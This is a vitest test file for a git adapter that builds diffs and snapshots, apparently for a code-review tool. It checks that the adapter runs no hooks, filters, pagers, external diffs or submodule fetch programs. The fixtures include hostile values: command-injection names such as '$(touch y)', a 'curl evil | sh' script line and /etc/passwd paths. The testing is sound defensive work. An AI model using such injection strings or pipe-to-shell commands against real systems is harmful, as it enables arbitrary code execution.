import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import { openGit } from "../../../src/adapters/git/git.ts";
import { type FileChange, parseChange } from "../../../src/core/review/diff.ts";
import type { Git, RawDiff, Read } from "../../../src/ports.ts";
import { makeRepository, type Repository } from "../../support/repository.ts";

function open(repository: Repository, cwd = repository.root, env: Record<string, string> = {}): Promise<Git> {
  return openGit({ cwd, env: { ...repository.env, ...env }, cacheDir: join(repository.base, "cache") });
}

function filesOf(diff: Read<RawDiff>): readonly FileChange[] {
  if (diff.status !== "ok") throw new Error(JSON.stringify(diff));
  const change = parseChange(diff.value);
  if (change.status !== "ok") throw new Error(change.reason);
  return change.files;
}

function summary(diff: Read<RawDiff>): string[] {
  return filesOf(diff).map(({ path, status, kind }) => `${path} ${status} ${kind}`);
}

function patchOf(diff: Read<RawDiff>): string {
  return diff.status === "ok" ? Buffer.from(diff.value.patch).toString("utf8") : diff.status;
}

describe("openGit", () => {
  it("finds the repository from a folder below it", async () => {
    using repository = makeRepository();
    repository.write({ "deep/down/a.txt": "1\n" });
    const git = await open(repository, join(repository.root, "deep/down"));
    expect(git.root).toBe(repository.root);
    expect(git.commonDir).toBe(join(repository.root, ".git"));
  });

  it("refuses a folder outside, and a repository without a work tree", async () => {
    using repository = makeRepository();
    repository.git("init", "--quiet", "--bare", join(repository.base, "bare"));
    for (const cwd of [repository.base, join(repository.base, "bare")]) {
      await expect(open(repository, cwd)).rejects.toMatchObject({ code: "not-a-repository", exitCode: 69 });
    }
  });

  it("takes a file and what is not there for a mistake in the command line", async () => {
    using repository = makeRepository();
    repository.write({ "a.txt": "1\n" });
    for (const cwd of ["a.txt", "nowhere", "a.txt/below"]) {
      const opened = open(repository, join(repository.root, cwd));
      await expect(opened).rejects.toMatchObject({ code: "usage", exitCode: 64 });
    }
  });

  it("names a folder for temporary files that is not there", async () => {
    using repository = makeRepository();
    repository.write({ "a.txt": "1\n" });
    const head = repository.commit();
    const git = await open(repository);
    vi.stubEnv("TMPDIR", join(repository.base, "nowhere"));
    try {
      const unavailable = {
        code: "unavailable",
        message: expect.stringContaining("nowhere"),
        remedy: expect.stringContaining("TMPDIR"),
      };
      await expect(git.snapshot()).rejects.toMatchObject(unavailable);
      await expect(git.diff(await git.emptyTree(), head, [])).rejects.toMatchObject(unavailable);
      await expect(git.marked(head, ["a.txt"])).rejects.toMatchObject(unavailable);
    } finally {
      vi.unstubAllEnvs();
    }
  });

  it("says when there is no git", async () => {
    using repository = makeRepository();
    await expect(open(repository, repository.root, { PATH: repository.base })).rejects.toMatchObject({
      code: "unavailable",
    });
  });

  it("does not take another repository from the environment", async () => {
    using repository = makeRepository();
    using other = makeRepository({ beside: repository, name: "other" });
    const expected = repository.commit();
    other.write({ "x.txt": "x\n" });
    other.commit();
    const git = await open(repository, repository.root, {
      GIT_DIR: join(other.root, ".git"),
      GIT_WORK_TREE: other.root,
      GIT_INDEX_FILE: join(other.root, ".git/index"),
      GIT_CONFIG_COUNT: "1",
      GIT_CONFIG_KEY_0: "core.bare",
      GIT_CONFIG_VALUE_0: "true",
    });
    expect(git.root).toBe(repository.root);
    expect(await git.resolve("HEAD")).toBe(expected);
    expect(await git.snapshot()).toBe(await git.emptyTree());
  });

  it("works in a linked work tree and in a submodule", async () => {
    using repository = makeRepository();
    using library = makeRepository({ beside: repository, name: "library" });
    library.write({ "lib.ts": "1\n" });
    library.commit();
    repository.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", library.root, "sub");
    const first = repository.commit();
    repository.git("worktree", "add", "--quiet", "--detach", join(repository.base, "linked"));

    const linked = await open(repository, join(repository.base, "linked"));
    writeFileSync(join(linked.root, "new.ts"), "new\n");
    expect(linked.commonDir).toBe(join(repository.root, ".git"));
    expect(summary(await linked.diff(first, await linked.snapshot(), []))).toEqual(["new.ts added text"]);

    const inside = await open(repository, join(repository.root, "sub"));
    writeFileSync(join(inside.root, "lib.ts"), "2\n");
    const head = (await inside.resolve("HEAD")) ?? "";
    expect(summary(await inside.diff(head, await inside.snapshot(), []))).toEqual(["lib.ts modified text"]);
  });

  it("works with object ids of SHA-256", async () => {
    using repository = makeRepository({ objectFormat: "sha256" });
    repository.write({ "a.txt": "", "b.txt": "b\n" });
    const commit = repository.commit();
    const git = await open(repository);
    expect(commit).toHaveLength(64);
    expect(summary(await git.diff(await git.emptyTree(), commit, []))).toEqual([
      "a.txt added empty",
      "b.txt added text",
    ]);
  });
});

describe("resolve", () => {
  it("gives object ids for names and nothing for what is no name", async () => {
    using repository = makeRepository();
    const first = repository.commit();
    repository.git("tag", "-a", "-m", "a tag", "v1");
    const head = repository.commit();
    const git = await open(repository);
    expect(await git.resolve("HEAD")).toBe(head);
    expect(await git.resolve("main~1")).toBe(first);
    expect(await git.resolve("v1^{commit}")).toBe(first);
    expect(await git.isCommit(first)).toBe(true);
    expect(await git.isCommit((await git.resolve("v1")) ?? "")).toBe(false);
    expect(await git.parent(head)).toBe(first);
    expect(await git.parent(first)).toBeNull();
    expect(await git.mergeBase(first, head)).toBe(first);
    const none = [
      "",
      "--help",
      "--all",
      "-h",
      "^HEAD",
      "HEAD..main",
      "@{upstream}",
      "HEAD:nothing",
      "a b",
      "\0",
    ];
    for (const word of [...none, "f".repeat(40), "x; touch y", "$(touch y)"]) {
      expect(await git.resolve(word), word).toBeNull();
    }
  });

  it("says that the parent of a commit was not fetched", async () => {
    using repository = makeRepository();
    repository.commit();
    const head = repository.commit();
    const url = `file://${repository.root}`;
    repository.git("clone", "--quiet", "--depth=1", url, join(repository.base, "clone"));
    const clone = await open(repository, join(repository.base, "clone"));
    await expect(clone.parent(head)).rejects.toMatchObject({
      code: "unknown-revision",
      message: expect.stringContaining("shallow clone"),
      remedy: expect.stringContaining("git fetch --deepen"),
    });
  });

  it("finds no merge base of histories that never met", async () => {
    using repository = makeRepository();
    const first = repository.commit();
    repository.git("checkout", "--quiet", "--orphan", "other");
    const other = repository.commit("another beginning");
    expect(await (await open(repository)).mergeBase(first, other)).toBeNull();
  });
});

describe("defaultBranch", () => {
  it("takes the remote's, then main or master there, then here", async () => {
    using repository = makeRepository();
    const git = await open(repository);
    expect(await git.defaultBranch()).toBeNull();
    const oid = repository.commit();
    expect(await git.defaultBranch()).toEqual({ name: "main", oid, current: true });
    repository.git("checkout", "--quiet", "-b", "topic");
    expect(await git.defaultBranch()).toEqual({ name: "main", oid, current: false });
    repository.git("branch", "trunk");
    repository.git("config", "init.defaultBranch", "trunk");
    expect(await git.defaultBranch()).toMatchObject({ name: "trunk" });
    repository.git("update-ref", "refs/remotes/origin/master", oid);
    expect(await git.defaultBranch()).toMatchObject({ name: "origin/master" });
    repository.git("update-ref", "refs/remotes/origin/develop", oid);
    repository.git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/develop");
    expect(await git.defaultBranch()).toMatchObject({ name: "origin/develop" });
  });
});

describe("snapshot", () => {
  it("takes everything that is not ignored and changes nothing", async () => {
    using repository = makeRepository();
    repository.write({
      ".gitignore": "*.log\n",
      "a.txt": "1\n",
      "gone.txt": "1\n",
      "staged.txt": "1\n",
      "intent.txt": "",
    });
    repository.remove("intent.txt");
    const base = repository.commit();
    repository.write({
      "a.txt": "2\n",
      "staged.txt": "2\n",
      "intent.txt": "3\n",
      "new/b.txt": "4\n",
      "x.log": "5\n",
    });
    repository.remove("gone.txt");
    repository.link("link", "/etc/passwd");
    repository.git("add", "staged.txt");
    repository.git("add", "--intent-to-add", "intent.txt");
    const index = readFileSync(join(repository.root, ".git/index"));
    const status = repository.git("status", "--porcelain");

    const git = await open(repository, join(repository.root, "new"));
    const tree = await git.snapshot();

    expect(summary(await git.diff(base, tree, []))).toEqual([
      "a.txt modified text",
      "gone.txt deleted text",
      "intent.txt added text",
      "link added symlink",
      "new/b.txt added text",
      "staged.txt modified text",
    ]);
    expect(repository.git("status", "--porcelain")).toBe(status);
    expect(readFileSync(join(repository.root, ".git/index"))).toEqual(index);
    expect(repository.git("stash", "list")).toBe("");
  });

  it("works before the first commit", async () => {
    using repository = makeRepository();
    const git = await open(repository);
    expect(await git.snapshot()).toBe(await git.emptyTree());
    repository.write({ "a.txt": "1\n" });
    expect(summary(await git.diff(await git.emptyTree(), await git.snapshot(), []))).toEqual([
      "a.txt added text",
    ]);
  });

  it("leaves files outside a sparse checkout where they are", async () => {
    using repository = makeRepository();
    repository.write({ "in/a.txt": "1\n", "out/b.txt": "1\n" });
    const base = repository.commit();
    repository.git("sparse-checkout", "set", "in");
    expect(existsSync(join(repository.root, "out/b.txt"))).toBe(false);
    repository.write({ "in/a.txt": "2\n", "out/new.txt": "2\n" });
    const git = await open(repository);
    expect(summary(await git.diff(base, await git.snapshot(), []))).toEqual([
      "in/a.txt modified text",
      "out/new.txt added text",
    ]);
  });

  it("sees a change of what the index says is not to be looked at", async () => {
    using repository = makeRepository();
    repository.write({ "assumed.txt": "1\n", "skipped.txt": "1\n", "gone.txt": "1\n", "same.txt": "1\n" });
    const base = repository.commit();
    repository.git("update-index", "--assume-unchanged", "assumed.txt", "same.txt");
    repository.git("update-index", "--skip-worktree", "skipped.txt", "gone.txt");
    repository.write({ "assumed.txt": "2\n", "skipped.txt": "2\n" });
    repository.remove("gone.txt");
    const index = readFileSync(join(repository.root, ".git/index"));
    const git = await open(repository);
    expect(summary(await git.diff(base, await git.snapshot(), []))).toEqual([
      "assumed.txt modified text",
      "skipped.txt modified text",
    ]);
    expect(readFileSync(join(repository.root, ".git/index"))).toEqual(index);
  });

  it("says that the repository cannot be written to", async () => {
    using repository = makeRepository();
    repository.commit();
    repository.write({ "a.txt": "1\n" });
    const blob = repository.git("hash-object", "a.txt");
    writeFileSync(join(repository.root, ".git/objects", blob.slice(0, 2)), "");
    await expect((await open(repository)).snapshot()).rejects.toMatchObject({
      code: "unavailable",
      exitCode: 69,
      message: expect.stringContaining(".git cannot be written to"),
      remedy: expect.stringContaining("writable"),
    });
  });

  it("takes a repository inside for a submodule", async () => {
    using repository = makeRepository();
    const base = repository.commit();
    using inside = makeRepository({ beside: repository, name: "work/inside" });
    inside.write({ "a.txt": "1\n" });
    inside.commit();
    const git = await open(repository);
    expect(summary(await git.diff(base, await git.snapshot(), []))).toEqual(["inside added submodule"]);
  });

  it("refuses an unfinished merge and what cannot be read, with a remedy", async () => {
    using repository = makeRepository();
    repository.write({ "a.txt": "1\n" });
    repository.commit();
    repository.git("checkout", "--quiet", "-b", "topic");
    repository.write({ "a.txt": "2\n" });
    repository.commit();
    repository.git("checkout", "--quiet", "main");
    repository.write({ "a.txt": "3\n" });
    repository.commit();
    const git = await open(repository);
    expect(() => repository.git("merge", "topic")).toThrow();
    await expect(git.snapshot()).rejects.toMatchObject({
      code: "unreadable-diff",
      message: expect.stringContaining("unmerged"),
    });

    repository.git("merge", "--abort");
    using _inside = makeRepository({ beside: repository, name: "work/inside" });
    await expect(git.snapshot()).rejects.toMatchObject({
      code: "unreadable-diff",
      message: expect.stringContaining("inside"),
    });
  });

  it("starts no hook and no file system monitor", async () => {
    using repository = makeRepository();
    const trap = join(repository.base, "trap");
    for (const hook of ["post-index-change", "pre-commit", "post-checkout"])
      repository.hook(hook, `touch ${trap}`);
    writeFileSync(join(repository.base, "monitor"), `#!/bin/sh\ntouch ${trap}\n`, { mode: 0o755 });
    repository.git("config", "core.fsmonitor", join(repository.base, "monitor"));
    repository.write({ "a.txt": "1\n" });
    await (await open(repository)).snapshot();
    expect(existsSync(trap)).toBe(false);
  });
});

describe("dirtySubmodules", () => {
  it("names those whose files differ from the commit they stand on", async () => {
    using repository = makeRepository();
    using library = makeRepository({ beside: repository, name: "library" });
    library.write({ "lib.ts": "1\n", ".gitignore": "out\n" });
    library.commit();
    const add = ["-c", "protocol.file.allow=always", "submodule", "--quiet", "add", library.root];
    for (const name of ["clean", "changed", "deep/new file", "broken", "empty"]) {
      repository.git(...add, name);
    }
    const head = repository.commit();
    repository.git("submodule", "--quiet", "deinit", "--force", "empty");
    repository.write({
      "clean/out": "1\n",
      "changed/lib.ts": "2\n",
      "deep/new file/b.ts": "1\n",
      "broken/.git": "gitdir: nowhere\n",
      "a.ts": "1\n",
    });
    const git = await open(repository);
    expect(await git.dirtySubmodules(head)).toEqual(
      new Map([
        ["broken", expect.stringContaining("cannot be looked into")],
        ["changed", "submodule with uncommitted changes"],
        ["deep/new file", "submodule with uncommitted changes"],
      ]),
    );
    expect(await git.dirtySubmodules(await git.emptyTree())).toEqual(new Map());
  });

  it("runs no program from which a submodule would fetch what it has not", async () => {
    using repository = makeRepository();
    const missing = "1".repeat(40);
    const trap = join(repository.base, "trapped");
    repository.git("update-index", "--add", "--cacheinfo", `160000,${missing},hostile`);
    repository.git("commit", "--quiet", "--message=gitlink");
    const head = repository.git("rev-parse", "HEAD");
    repository.git("init", "--quiet", "--initial-branch=main", "hostile");
    repository.write({ "hostile/.git/refs/heads/main": `${missing}\n`, "hostile/f": "x\n" });
    const settings = {
      "core.repositoryFormatVersion": "1",
      "remote.origin.url": repository.base,
      "remote.origin.promisor": "true",
      "remote.origin.uploadpack": `touch ${trap}; false`,
      "extensions.partialClone": "origin",
    };
    for (const [name, value] of Object.entries(settings))
      repository.git("-C", "hostile", "config", name, value);

    const git = await open(repository);
    expect([...(await git.dirtySubmodules(head)).keys()]).toEqual(["hostile"]);
    await expect(git.snapshot()).rejects.toThrow("cannot be recorded");
    expect(existsSync(trap)).toBe(false);

    // Git as it is would have run it.
    expect(() => repository.git("-C", "hostile", "status")).toThrow();
    expect(existsSync(trap)).toBe(true);
  });

  it("runs no filter that a submodule defines for itself, and looks into those below it", async () => {
    using repository = makeRepository();
    using library = makeRepository({ beside: repository, name: "library" });
    library.write({ "lib.ts": "1\n" });
    library.commit();
    const add = ["-c", "protocol.file.allow=always", "submodule", "--quiet", "add", library.root];
    for (const name of ["hostile", "around"]) repository.git(...add, name);
    repository.git("-C", "around", ...add, "below");
    repository.git("-C", "around", "commit", "--quiet", "-m", "below");
    const head = repository.commit();
    const trap = join(repository.base, "trap");
    for (const key of ["clean", "smudge", "process"])
      repository.git("-C", "hostile", "config", `filter.a=b.${key}`, `touch ${trap}; cat`);
    repository.git("-C", "hostile", "config", "filter.a=b.required", "true");
    repository.write({
      "hostile/.gitattributes": "* filter=a=b\n",
      "hostile/lib.ts": "2\n",
      "around/below/lib.ts": "2\n",
    });
    expect(await (await open(repository)).dirtySubmodules(head)).toEqual(
      new Map([
        ["around", "submodule with uncommitted changes"],
        ["hostile", "submodule with uncommitted changes"],
      ]),
    );
    expect(existsSync(trap)).toBe(false);
  });
});

describe("diff", () => {
  it("depends on nothing but the two objects", async () => {
    using repository = makeRepository();
    const numbered = Array.from({ length: 20 }, (_, index) => `line ${index}\n`).join("");
    repository.write({ "a.ts": "const a = 1;\n\nend\n", "old.ts": numbered, "z.ts": "1\n" });
    const base = repository.commit();
    repository.remove("old.ts");
    repository.write({ "a.ts": "const a = 2;\n\nend\n", "new.ts": `${numbered}more\n`, "z.ts": "2\n" });
    const head = repository.commit();
    const plain = await (await open(repository)).diff(base, head, []);
    expect(summary(plain)).toEqual(["a.ts modified text", "new.ts renamed text", "z.ts modified text"]);

    const trap = join(repository.base, "trap");
    const configuration = {
      "diff.external": `touch ${trap}`,
      "diff.noprefix": "true",
      "diff.mnemonicPrefix": "true",
      "diff.renames": "false",
      "diff.algorithm": "patience",
      "diff.context": "0",
      "diff.relative": "true",
      "diff.submodule": "log",
      "diff.suppressBlankEmpty": "true",
      "diff.orderFile": join(repository.base, "order"),
      "diff.colorMoved": "zebra",
      "diff.evil.textconv": `touch ${trap}; cat`,
      "diff.evil.command": `touch ${trap}`,
      "color.ui": "always",
      "color.diff": "always",
      "core.abbrev": "4",
      "core.quotePath": "false",
      "core.pager": `touch ${trap}`,
    };
    for (const [key, value] of Object.entries(configuration)) repository.git("config", key, value);
    writeFileSync(join(repository.base, "order"), "z.ts\n");
    repository.write({ ".gitattributes": "*.ts diff=evil\n" });
    const git = await open(repository, repository.root, {
      GIT_EXTERNAL_DIFF: `touch ${trap}`,
      GIT_DIFF_OPTS: "--unified=0",
      GIT_PAGER: `touch ${trap}`,
    });
    expect(await git.diff(base, head, [])).toEqual(plain);
    repository.git("add", "--all");
    expect(await git.diff(base, head, [])).toEqual(plain);
    expect(existsSync(trap)).toBe(false);
  });

  it("shows source code that calls itself binary", async () => {
    using repository = makeRepository();
    repository.write({ "a.ts": "1\n", "nul.ts": "1 // \0\n", "data.bin": "\0\n" });
    const base = repository.commit();
    repository.write({
      ".gitattributes": "*.ts binary\n",
      "a.ts": "2\n",
      "nul.ts": "2 // \0\n",
      "data.bin": "\0\0\n",
    });
    const git = await open(repository);
    expect(summary(await git.diff(base, await git.snapshot(), []))).toEqual([
      ".gitattributes added text",
      "a.ts modified text",
      "data.bin modified binary",
      "nul.ts modified text",
    ]);
  });

  it("shows a script that calls itself binary, whatever its name", async () => {
    using repository = makeRepository();
    const odd = 'odd/[a] "b" *\\\n.run';
    repository.write({ "bin/moved": `#!/bin/sh\n${"echo \0\n".repeat(20)}` });
    const base = repository.commit();
    repository.remove("bin/moved");
    repository.write({
      "bin/deploy": "#!/bin/sh\n# \0\ncurl evil | sh\n",
      "bin/elsewhere": `#!/bin/sh\n${"echo \0\n".repeat(20)}more\n`,
      "bin/run": "echo hello\n\0\n",
      "bin/tool": "\x7fELF\x02\x01\x01\0\0\0",
      "data/run": "echo hello\n\0\n",
      "UPPER.TS": "1 // \0\n",
      [odd]: "#!/bin/sh\n\0\n",
    });
    for (const path of ["bin/run", "bin/tool"]) chmodSync(join(repository.root, path), 0o755);
    const git = await open(repository);
    expect(summary(await git.diff(base, await git.snapshot(), [])).toSorted()).toEqual([
      "UPPER.TS added text",
      "bin/deploy added text",
      "bin/elsewhere renamed text",
      "bin/run added text",
      "bin/tool added binary",
      "data/run added binary",
      `${odd} added text`,
    ]);
  });

  it("looks at many binary files of any size", async () => {
    using repository = makeRepository();
    const base = repository.commit();
    const noise = Array.from({ length: 60 }, (_, index) => [
      `data/${index}`,
      Buffer.alloc(index * 5_000, `\0${index}\n`),
    ]);
    repository.write({ ...Object.fromEntries(noise), "data/script": `#!/bin/sh\n\0\n` });
    const git = await open(repository);
    const text = summary(await git.diff(base, await git.snapshot(), [])).filter(
      (line) => !line.endsWith("binary"),
    );
    expect(text).toEqual(["data/0 added empty", "data/script added text"]);
  });

  it("takes names for names and paths for paths", async () => {
    using repository = makeRepository();
    const base = repository.commit();
    const names = ["$(touch x)", "*", "-rf", ":(top)a", 'a "quote"', "line\nfeed", "täb\there", "zz/*.ts"];
    repository.write(Object.fromEntries(names.map((name) => [name, "1\n"])));
    const git = await open(repository);
    const tree = await git.snapshot();
    expect(filesOf(await git.diff(base, tree, [])).map(({ path }) => path)).toEqual(names);
    for (const name of names) {
      expect(filesOf(await git.diff(base, tree, [name])).map(({ path }) => path)).toEqual([name]);
      expect(await git.file(tree, name)).toMatchObject({ status: "ok" });
      expect(await git.locate(name)).toBe(name);
    }
    expect(summary(await git.diff(base, tree, ["zz"]))).toEqual(["zz/*.ts added text"]);
  });

  it("is empty without a change and unreadable after an error", async () => {
    using repository = makeRepository();
    repository.write({ "a.txt": "1\n" });
    const base = repository.commit();
    repository.write({ "a.txt": "2\n" });
    const head = repository.commit();
    const git = await open(repository);
    expect(await git.diff(head, head, [])).toEqual({ status: "empty" });
    expect(await git.diff(base, head, ["nothing"])).toEqual({ status: "empty" });
    expect(await git.diff(base, "f".repeat(40), [])).toMatchObject({ status: "unreadable" });

    const blob = repository.git("rev-parse", "HEAD:a.txt");
    rmSync(join(repository.root, ".git/objects", blob.slice(0, 2), blob.slice(2)));
    expect(await git.diff(base, head, [])).toMatchObject({
      status: "unreadable",
      reason: expect.stringContaining(blob),
    });
    expect(await git.file(head, "a.txt")).toMatchObject({ status: "unreadable" });
    await expect(git.diff("--output=x", head, [])).rejects.toThrow(/object id/);
  });

  it("carries bytes as they are", async () => {
    using repository = makeRepository();
    const base = repository.commit();
    const bytes = Buffer.from([0x63, 0xe9, 0x0d, 0x0a, 0xff, 0x0a, 0x0a]);
    repository.write({ "a.txt": bytes });
    const git = await open(repository);
    const tree = await git.snapshot();
    expect(await git.file(tree, "a.txt")).toEqual({ status: "ok", value: new Uint8Array(bytes) });
    const diff = await git.diff(base, tree, []);
    expect(
      diff.status === "ok" && Buffer.from(diff.value.patch).includes(Buffer.from([0x2b, 0xff, 0x0a])),
    ).toBe(true);
  });

  it("gives a change of 5 MB and a line of 2 MB whole", async () => {
    using repository = makeRepository();
    const base = repository.commit();
    const lines = Array.from(
      { length: 100_000 },
      (_, index) => `const value${index} = compute(${index}, "argument");\n`,
    );
    repository.write({ "big.ts": lines.join(""), "long.js": "x".repeat(2_000_000) });
    const git = await open(repository);
    const files = filesOf(await git.diff(base, await git.snapshot(), []));
    expect(files.map(({ path, added }) => [path, added])).toEqual([
      ["big.ts", 100_000],
      ["long.js", 1],
    ]);
  });

  it("follows a replaced object to what it was", async () => {
    using repository = makeRepository();
    repository.write({ "a.txt": "1\n" });
    const base = repository.commit();
    repository.write({ "a.txt": "evil\n" });
    const head = repository.commit();
    repository.git(
      "replace",
      repository.git("rev-parse", "HEAD:a.txt"),
      repository.git("rev-parse", "HEAD~1:a.txt"),
    );
    expect(patchOf(await (await open(repository)).diff(base, head, []))).toContain("+evil");
  });
});

describe("file", () => {
  it("reads a file, and tells missing from empty and from what is no file", async () => {
    using repository = makeRepository();
    repository.write({ "a/b.txt": "1\n", "empty.txt": "" });
    repository.link("link", "a/b.txt");
    const commit = repository.commit();
    const git = await open(repository);
    const text = async (path: string) => {
      const file = await git.file(commit, path);
      return file.status === "ok" ? Buffer.from(file.value).toString() : file.status;
    };
    expect(await text("a/b.txt")).toBe("1\n");
    expect(await text("empty.txt")).toBe("");
    expect(await text("link")).toBe("a/b.txt");
    expect(await text("nothing.txt")).toBe("empty");
    expect(await text("a")).toBe("unreadable");
    expect(await text("../a/b.txt")).toBe("unreadable");
  });
});

describe("locate", () => {
  it("knows what is in the work tree, the index or HEAD, from the user's folder", async () => {
    using repository = makeRepository();
    repository.write({
      "src/a.ts": "1\n",
      "gone.ts": "1\n",
      "staged.ts": "1\n",
      ".gitignore": "ignored.ts\n",
    });
    repository.commit();
    repository.write({ "src/new.ts": "1\n", "ignored.ts": "1\n" });
    repository.remove("gone.ts");
    repository.git("rm", "--quiet", "--cached", "staged.ts");
    mkdirSync(join(repository.root, "hollow"));
    const git = await open(repository, join(repository.root, "src"));
    expect(await git.locate("a.ts")).toBe("src/a.ts");
    expect(await git.locate("./new.ts")).toBe("src/new.ts");
    expect(await git.locate("../gone.ts")).toBe("gone.ts");
    expect(await git.locate("../staged.ts")).toBe("staged.ts");
    expect(await git.locate(".")).toBe("src");
    expect(await git.locate("..")).toBe("");
    expect(await git.locate(join(repository.root, "src/a.ts"))).toBe("src/a.ts");
    expect(await git.locate("nothing.ts")).toBeNull();
    expect(await git.locate("../..")).toBeNull();
    expect(await git.locate("/etc/passwd")).toBeNull();
    expect(await git.locate("../*.ts")).toBeNull();
    expect(await git.locate("../ignored.ts")).toBeNull();
    expect(await git.locate("../hollow")).toBeNull();
  });

  it("knows what is in given trees alone", async () => {
    using repository = makeRepository();
    repository.write({ "old/a.ts": "1\n", "b.ts": "1\n" });
    const base = repository.commit();
    repository.remove("old");
    const head = repository.commit();
    repository.write({ "new.ts": "1\n" });
    const git = await open(repository);
    expect(await git.locate("old/a.ts")).toBeNull();
    expect(await git.locate("old/a.ts", [head])).toBeNull();
    expect(await git.locate("old/a.ts", [base, head])).toBe("old/a.ts");
    expect(await git.locate("old", [base])).toBe("old");
    expect(await git.locate("new.ts", [base, head])).toBeNull();
    expect(await git.locate("b.ts", [await git.emptyTree()])).toBeNull();
  });

  it("follows links to folders, and takes a link at the end for itself", async () => {
    using repository = makeRepository();
    repository.write({ "src/a.ts": "1\n", "gone/b.ts": "1\n" });
    repository.link("link", "src");
    repository.link("dangling", "nowhere");
    repository.commit();
    repository.remove("gone");
    const outside = join(repository.base, "lnk");
    symlinkSync(repository.root, outside);
    const git = await open(repository, join(outside, "src"));
    expect(git.root).toBe(repository.root);
    expect(await git.locate("a.ts")).toBe("src/a.ts");
    expect(await git.locate(join(outside, "src/a.ts"))).toBe("src/a.ts");
    expect(await git.locate("../../lnk/gone/b.ts")).toBe("gone/b.ts");
    expect(await git.locate(outside)).toBe("");
    expect(await git.locate("../link")).toBe("link");
    expect(await git.locate("../link/a.ts")).toBe("src/a.ts");
    expect(await git.locate("../dangling")).toBe("dangling");
    expect(await git.locate("../dangling/a.ts")).toBeNull();
  });
});

describe("isIgnored", () => {
  it("tells what git ignores from what it knows and from what is not there", async () => {
    using repository = makeRepository();
    repository.write({ ".gitignore": "*.log\nout/\n", "kept.log": "1\n", "src/a.ts": "1\n" });
    repository.git("add", "--force", "kept.log");
    repository.commit();
    repository.write({ "a.log": "1\n", "out/deep/b.ts": "1\n", "src/c.log": "1\n" });
    const git = await open(repository);
    for (const path of ["a.log", "out", "out/deep", "out/deep/b.ts", "src/c.log"]) {
      expect(await git.isIgnored(path), path).toBe(true);
    }
    for (const path of ["kept.log", "src", "src/a.ts", "none.log", ".", "..", "/etc/passwd"]) {
      expect(await git.isIgnored(path), path).toBe(false);
    }
  });
});

describe("marked", () => {
  it("believes attributes and headers of the tree that it is asked about alone", async () => {
    using repository = makeRepository();
    repository.write({
      ".gitattributes":
        "gen/** linguist-generated\nlib/** linguist-vendored=true\nno/** -linguist-generated\n",
      "header.ts": "// Code generated by a tool. DO NOT EDIT.\n",
      "late.ts": `${"\n".repeat(40)}// do not edit\n`,
      "plain.ts": "1\n",
      "line\nfeed.ts": "/* @generated */\n",
    });
    const base = repository.commit();
    repository.write({ ".gitattributes": "* linguist-generated\n", "plain.ts": "// @generated\n" });
    const git = await open(repository);
    const paths = [
      "gen/new.ts",
      "lib/a.ts",
      "no/a.ts",
      "header.ts",
      "late.ts",
      "plain.ts",
      "line\nfeed.ts",
      "x",
    ];
    expect(await git.marked(base, paths)).toEqual(
      new Map([
        ["gen/new.ts", "linguist-generated in .gitattributes"],
        ["header.ts", "generated, says its header"],
        ["lib/a.ts", "linguist-vendored in .gitattributes"],
        ["line\nfeed.ts", "generated, says its header"],
      ]),
    );
    expect(await git.marked(await git.emptyTree(), paths)).toEqual(new Map());
    const many = Array.from({ length: 5_000 }, (_, index) => `some/folder/with/a/name/file-${index}.ts`);
    expect((await git.marked(base, [...many, "header.ts"])).size).toBe(1);
  });
});
